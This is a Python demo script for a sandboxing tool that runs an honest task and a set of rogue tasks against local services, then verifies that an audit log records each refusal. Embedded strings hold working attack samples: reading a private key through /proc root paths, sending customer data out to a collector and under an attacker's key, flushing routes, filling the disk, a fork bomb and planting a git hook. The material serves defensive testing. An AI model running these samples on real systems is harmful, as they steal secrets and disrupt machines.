"""What `scripts/demo` runs: an honest task and a rogue one, and what the audit log says of them.

Everything is real and local: a TLS service on loopback that the policy allows under the name `api.allowed.test`, one that it allows
as `store.allowed.test` with a key of the user's that the broker adds, a collector on loopback that it does not allow, a private key
in a home directory, a git repository as the workspace. What an attack reaches for is first reached outside.
"""

from __future__ import annotations

import contextlib
import http.server
import json
import os
import shutil
import ssl
import subprocess
import sys
import tempfile
import threading
import time

import demo_agent

from saggar.testing.upstream import TestPki

HONEST = """
import ssl, urllib.request
context = ssl.create_default_context(cafile="ca.pem")
answer = urllib.request.urlopen("https://api.allowed.test/", context=context, timeout=10).read().decode()
open("report.txt", "w").write(answer)
print("fetched and wrote report.txt:", answer)
"""

READ_KEY = """
import os, sys
for path in (sys.argv[1], "/proc/1/root" + sys.argv[1], "/proc/self/root" + sys.argv[1]):
    try:
        print("GOT", open(path).read())
    except OSError as error:
        last = error.strerror
print("GOT" if "DEMO_TOKEN" in os.environ else "refused:", last)
"""

REACH = """
import socket, sys, time
host, port = sys.argv[1], int(sys.argv[2])
started = time.monotonic()
try:
    with socket.create_connection((host, port), timeout=5) as s:
        s.sendall(b"GET /stolen HTTP/1.1\\r\\nHost: collector.test\\r\\n\\r\\n")
        answer = b""
        while part := s.recv(4096):
            answer += part
        print("GOT" if b"collected" in answer else "refused: " + answer.split(b"\\r\\n")[0].decode(), "")
except OSError as error:
    print("refused:", error.strerror or error, f"in {(time.monotonic() - started) * 1000:.0f} ms")
"""

CARRY = """
import http.client, os, socket, ssl, sys
address, port, ca = sys.argv[1], int(sys.argv[2]), sys.argv[3:]
def store(key, body):
    context = ssl.create_default_context(cafile=ca[0] if ca else None)
    connection = http.client.HTTPSConnection("store.allowed.test", port, context=context, timeout=10)
    connection._create_connection = lambda *_: socket.create_connection((address, port), 10)
    connection.request("POST", "/files", body, {"Authorization": "Bearer " + key})
    answer = connection.getresponse()
    return answer.status, answer.read().decode()
if "STORE_KEY" in os.environ:
    print("with the task's own key:", store(os.environ["STORE_KEY"], "a report")[0])
status, text = store("sk-of-the-attacker-0123456789", open("customers.txt").read())
print("GOT" if status == 200 else f"refused: {status}", text.strip())
"""

FLUSH = """
import os, socket, struct
NLM = 1 | 4  # request, acknowledge
def ask(kind, body):
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as s:
        s.send(struct.pack("=IHHII", 16 + len(body), kind, NLM, 1, 0) + body)
        return struct.unpack("=i", s.recv(4096)[16:20])[0]
# delete the route `local default` in table 255, as `ip route flush table local` does
error = ask(25, struct.pack("=BBBBBBBBI", 2, 0, 0, 0, 255, 0, 0, 2, 0))
print("refused:" if error else "GOT", os.strerror(-error) if error else "the route is gone")
"""

FILL = """
import os
written, block = 0, b"x" * (1 << 20)
try:
    with open("filler", "wb", buffering=0) as f:
        while written < 4 << 30:
            written += f.write(block)
    print("GOT", written)
except OSError as error:
    print("refused:", error.strerror, f"after {written >> 20} MiB")
"""

FORK = """
import os, signal
children = []
try:
    while len(children) < 5000:
        pid = os.fork()
        if not pid:
            signal.pause()
        children.append(pid)
    print("GOT", len(children))
except OSError as error:
    print("refused:", error.strerror, f"after {len(children)} processes")
for pid in children:
    os.kill(pid, 9)
"""

HOOK = """
import os
os.makedirs(".git/hooks", exist_ok=True)
open(".git/hooks/pre-commit", "w").write("#!/bin/sh\\ntouch owned\\n")
os.chmod(".git/hooks/pre-commit", 0o755)
print("wrote .git/hooks/pre-commit in its own copy")
"""


class Demo:
    """The stage: services, workspace, state directory, and how a command is run in it."""

    def __init__(self, place: str) -> None:
        self.workspace = f"{place}/project"
        self.home = f"{place}/home"
        self.key = f"{self.home}/.ssh/id_demo"
        self.policy = f"{place}/saggar.toml"
        self.result = f"{place}/result.json"
        for path in (self.workspace, f"{self.home}/.ssh"):
            os.makedirs(path)
        write(self.key, "demo private key\n")
        pki = TestPki(place, ["api.allowed.test", "store.allowed.test"])
        shutil.copy(pki.ca_file, f"{self.workspace}/ca.pem")
        self.asked: list[str] = []
        self.stored: list[str] = []
        self.stolen: list[str] = []
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.load_cert_chain(pki.chain_file)
        self.service = serve(self.asked, b"hello from the allowed service", context)
        self.store = serve(self.stored, b"stored", context)
        self.collector = serve(self.stolen, b"collected", None)
        write(
            self.policy,
            "[limits]\ndisk = '64MiB'\ntasks = 64\nmemory = '512MiB'\ntimeout = '60s'\n\n"
            f"[[egress.allow]]\nhost = 'api.allowed.test'\nconnect_to = '127.0.0.1:{self.service}'\n\n"
            f"[[egress.allow]]\nhost = 'store.allowed.test'\nconnect_to = '127.0.0.1:{self.store}'\n"
            f"http = {{ ca = '{pki.ca_file}', credential = {{ source = 'env:DEMO_STORE_KEY', env = 'STORE_KEY' }} }}\n",
        )
        write(f"{self.workspace}/customers.txt", "Ann, 12 Example Street\n")
        for name, text in SCRIPTS.items():
            write(f"{self.workspace}/{name}", text)
        git = ["git", "-C", self.workspace, "-c", "user.name=demo", "-c", "user.email=demo@demo.test"]
        for command in (["init", "-q"], ["add", "."], ["commit", "-qm", "start"]):
            subprocess.run([*git, *command], check=True, env=self.environment())

    def environment(self) -> dict[str, str]:
        return {
            "PATH": os.environ["PATH"],
            "HOME": self.home,
            "LANG": "C.UTF-8",
            "SAGGAR_STATE_DIR": f"{self.home}/state",
            "DEMO_TOKEN": "outside only",
            "DEMO_STORE_KEY": STORE_KEY,
        }

    def saggar(self, *args: str) -> subprocess.CompletedProcess[str]:
        command = [sys.executable, "-m", "saggar", *args]
        return subprocess.run(
            command,
            cwd=self.workspace,
            env=self.environment(),
            capture_output=True,
            text=True,
            check=False,
            timeout=120,
        )

    def run(self, *command: str) -> tuple[str, dict]:
        done = self.saggar("run", "--quiet", "--policy", self.policy, "--json", self.result, "--", *command)
        with open(self.result) as f:
            result = json.load(f)
        return (done.stdout + done.stderr).strip(), result

    def outside(self, *command: str) -> str:
        done = subprocess.run(
            command, cwd=self.workspace, env=self.environment(), capture_output=True, text=True, check=False, timeout=60
        )
        return done.stdout.strip()

    def lost(self) -> int:
        """How often something reached the attacker: his collector, or his account at the store."""
        return len(self.stolen) + sum(ATTACKERS_KEY in key for key in self.stored)

    def log(self, run_id: str) -> list[dict]:
        verified = self.saggar("log", "verify", run_id)
        if verified.returncode:
            raise SystemExit(f"demo: the audit log of {run_id} does not verify: {verified.stderr}")
        return [json.loads(line) for line in self.saggar("log", run_id, "--json").stdout.splitlines()]


STORE_KEY = "sk-of-the-user-0123456789abcdef"
ATTACKERS_KEY = "sk-of-the-attacker-0123456789"
CARRYING = "carry data out by an allowed host, own key"
SCRIPTS = {"honest.py": HONEST, "read_key.py": READ_KEY, "reach.py": REACH, "carry.py": CARRY, "flush.py": FLUSH, "fill.py": FILL, "fork.py": FORK,
           "hook.py": HOOK}  # fmt: skip


def write(path: str, text: str) -> None:
    with open(path, "w") as f:
        f.write(text)


def serve(seen: list[str], answer: bytes, context: ssl.SSLContext | None) -> int:
    """An HTTP service on loopback that notes the path of a GET and the key of a POST; its port."""

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            seen.append(self.path)
            self.send_response(200)
            self.send_header("Content-Length", str(len(answer)))
            self.end_headers()
            self.wfile.write(answer)

        def do_POST(self) -> None:
            self.rfile.read(int(self.headers["Content-Length"]))
            self.path = self.headers["Authorization"]
            self.do_GET()

        def log_message(self, *_: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    if context:
        server.socket = context.wrap_socket(server.socket, server_side=True)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server.server_address[1]


def evidence(records: list[dict], result: dict, held_by: str) -> tuple[str, str]:
    """(wall, what is on record): the refusal itself where there is one, else what held the command from the start.

    Where a thing is simply not there inside, nobody refuses anything, and the record of the start says what was shown.
    """
    for record in records:
        if record["effect"] == "deny" or record["kind"].startswith("limit."):
            detail = record["detail"]
            about = detail.get("to") or detail.get("host") or detail.get("path") or detail.get("limit") or ""
            return record["layer"], f"#{record['seq']} {record['kind']}: {record['reason']} {about}".rstrip()
    start, end = records[0], records[-1]
    if end["reason"] not in {"exit", "signal"}:
        return end["layer"], f"#{end['seq']} run.end: {end['reason']}"
    if held_by in result["limits"]:
        limit = result["limits"][held_by]
        return end["layer"], f"#{end['seq']} run.end: limit of {held_by} {limit['allowed']}, {limit['held']}"
    shown = start["detail"]
    facts = {"mounts": f"shown inside: the workspace {shown['mode']}, host paths {shown['read']}",
             "network": "a network namespace without an uplink, no capability over it"}  # fmt: skip
    return start["layer"], f"#{start['seq']} run.start: {facts[held_by]}"


def main() -> int:
    place = tempfile.mkdtemp(prefix="saggar-demo-", dir="/var/tmp")
    os.chmod(place, 0o755)
    try:
        return play(Demo(place))
    finally:
        for base, names, _ in os.walk(place):
            for name in names:
                with contextlib.suppress(OSError):
                    os.chmod(os.path.join(base, name), 0o700, follow_symlinks=False)
        shutil.rmtree(place, ignore_errors=True)


def play(demo: Demo) -> int:
    # the system's interpreter is shown inside as it is; any other comes with its prefix
    python = "/usr/bin/python3" if os.path.exists("/usr/bin/python3") else os.path.realpath(sys.executable)
    print("The honest task, under a policy that allows one host:\n")
    output, result = demo.run(python, "honest.py")
    print(f"  $ saggar run --policy saggar.toml -- python honest.py\n  {output}")
    changed = [line for line in demo.saggar("diff", result["run_id"]).stdout.splitlines() if line.startswith("+++")]
    print(f"  saggar diff: {', '.join(line[6:] for line in changed)}; on the host: {on_host(demo, 'report.txt')}")
    applied = demo.saggar("apply", result["run_id"])
    print(f"  saggar apply: on the host: {on_host(demo, 'report.txt')}\n")
    good = result["cause"] == "exit" and demo.asked == ["/"] and not applied.returncode
    read_key, reach = ["read_key.py", demo.key], ["reach.py", "127.0.0.1", str(demo.collector)]
    # name, what runs inside, what holds it where nobody refuses, what must succeed outside
    attacks = [
        ("read a private key", read_key, "mounts", read_key),
        ("reach a service on loopback", reach, "network", reach),
        ("reach an address", ["reach.py", "192.0.2.7", "443"], "network", []),
        ("reach an unlisted name", ["reach.py", "collector.test", "80"], "network", []),
        (CARRYING, ["carry.py", "store.allowed.test", "443"], "network",
         ["carry.py", "127.0.0.1", str(demo.store), "ca.pem"]),
        ("flush the routes", ["flush.py"], "network", []),
        ("fill the disk", ["fill.py"], "disk", []),
        ("fork-bomb", ["fork.py"], "tasks", []),
        ("edit .git/hooks", ["hook.py"], "mounts", []),
    ]  # fmt: skip
    rows = []
    for name, command, held_by, outside in attacks:
        control = demo.outside(python, *outside) if outside else ""
        if outside and not control.startswith("GOT"):
            raise SystemExit(f"demo: `{name}` does not even work outside: {control}")
        lost = demo.lost()
        started = time.monotonic()
        output, result = demo.run(python, *command)
        took = time.monotonic() - started
        if name == "edit .git/hooks":
            output = (demo.saggar("apply", result["run_id"]).stderr.strip().splitlines() or ["applied"])[-1]
            held = not os.path.exists(f"{demo.workspace}/.git/hooks/pre-commit")
        else:
            held = "GOT" not in output and demo.lost() == lost
        held = held and result["cause"] != "infrastructure"
        layer, says = evidence(demo.log(result["run_id"]), result, held_by)
        if name == CARRYING:
            # the same request with the task's own key went through, so that it is the key that was refused
            held = held and layer == "L2" and "foreign_credential" in says and f"Bearer {STORE_KEY}" in demo.stored
        rows.append((name, layer, output.splitlines()[-1] if output else result["cause"], says, took, held))
    rows += demo_agent.attacks(f"{demo.home}/agent-state")
    print_table(rows)
    held = all(row[-1] for row in rows)
    whole = not leftovers()
    print(f"\n{sum(row[-1] for row in rows)} of {len(rows)} attacks refused; every audit log verified; ", end="")
    print("nothing left running" if whole else "PROCESSES LEFT BEHIND")
    return 0 if good and held and whole else 1


def on_host(demo: Demo, name: str) -> str:
    return "there" if os.path.exists(f"{demo.workspace}/{name}") else "not there"


def leftovers() -> list[str]:
    """Processes of this demo that outlived it."""
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        with contextlib.suppress(OSError), open(f"/proc/{pid}/cmdline", "rb") as f:
            line = f.read()
            if any(f"\0{name}".encode() in line for name in SCRIPTS) and b"saggar-demo" not in line:
                found.append(pid)
    return found


def print_table(rows: list[tuple]) -> None:
    print("The rogue task, attack by attack (the wall and the record are from the audit log):\n")
    header = ("attack", "wall", "what the attacker saw", "what is on record")
    widths = [max(len(str(row[i])) for row in [header, *rows]) for i in range(3)]
    line = "  {:<%d}  {:<%d}  {:<%d}  {}" % (widths[0], widths[1], min(widths[2], 60))  # noqa: UP031
    print(line.format(*header))
    for name, layer, saw, says, took, held in rows:
        print(line.format(name, layer, saw[:60], f"{says} ({took:.2f} s)" + ("" if held else "  NOT HELD")))


if __name__ == "__main__":
    sys.exit(main())
